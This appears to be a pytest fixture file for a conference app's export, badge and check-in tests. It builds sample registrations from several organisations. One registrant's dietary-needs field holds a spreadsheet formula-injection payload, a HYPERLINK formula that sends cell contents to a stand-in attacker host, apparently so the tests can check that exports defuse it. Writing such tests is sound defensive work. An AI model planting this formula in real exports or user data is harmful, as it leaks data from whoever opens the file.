"""
Fixtures of the export, gate-list, badge and check-in tests: a small cast of
registrations with everything the exports show. Readers of what is served
(CSV, XLSX, PDF text) are in tests/helpers/web.py.
"""

import datetime

import pytest

from conference.core.models import OrganisationKind
from tests.factories import (
    MeetingFactory,
    MeetingSeatFactory,
    OrganisationFactory,
    RegistrationFactory,
    SessionFactory,
    SessionSignupFactory,
    UserFactory,
    local_time,
)


@pytest.fixture
def cast(conference):
    """
    Registrations with everything the exports read:
    - sato: approved, Japanese name, OEM from Japan, VIP, signed up to a
      session, in one B2B meeting, checked in at 09:12 conference time;
    - mehta: approved recycler from India, a formula in her dietary needs,
      in the same meeting (with sato);
    - lee: pending financier from Australia;
    - other: a registration of another conference.
    """
    toyota = OrganisationFactory(name="Toyota Tsusho", kind=OrganisationKind.OEM, country="JP")
    lohum = OrganisationFactory(name="Lohum", kind=OrganisationKind.RECYCLER, country="IN")
    jbic = OrganisationFactory(name="JBIC Sydney", kind=OrganisationKind.FINANCIER, country="AU")
    sato = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="花子", family_name="佐藤", family_name_first=True),
        organisation=toyota,
        job_title="General Manager",
        status="approved",
        is_vip=True,
        nationality="JP",
        id_document_type="passport",
        id_document_number="TK1234567",
        id_document_expiry=datetime.date(2031, 5, 1),
        dietary_needs="Vegetarian",
        checked_in_at=local_time(conference, 9, 12),
    )
    mehta = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="Priya", family_name="Mehta"),
        organisation=lohum,
        job_title="Head of Recycling",
        status="approved",
        nationality="IN",
        id_document_type="national_id",
        id_document_number="IN-998877",
        dietary_needs='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        access_needs="-wheelchair access",
    )
    lee = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="Daniel", family_name="Lee"),
        organisation=jbic,
        status="pending",
        nationality="AU",
        id_document_number="PA555",
    )
    other = RegistrationFactory(
        user=UserFactory(given_name="Outsider", family_name="Elsewhere"), status="approved"
    )
    session = SessionFactory(conference=conference, title="Securing anchor off-takers")
    SessionSignupFactory(session=session, registration=sato)
    meeting = MeetingFactory(conference=conference)
    MeetingSeatFactory(meeting=meeting, registration=sato)
    MeetingSeatFactory(meeting=meeting, registration=mehta)
    return {
        "sato": sato,
        "mehta": mehta,
        "lee": lee,
        "other": other,
        "session": session,
        "meeting": meeting,
        "toyota": toyota,
        "lohum": lohum,
    }
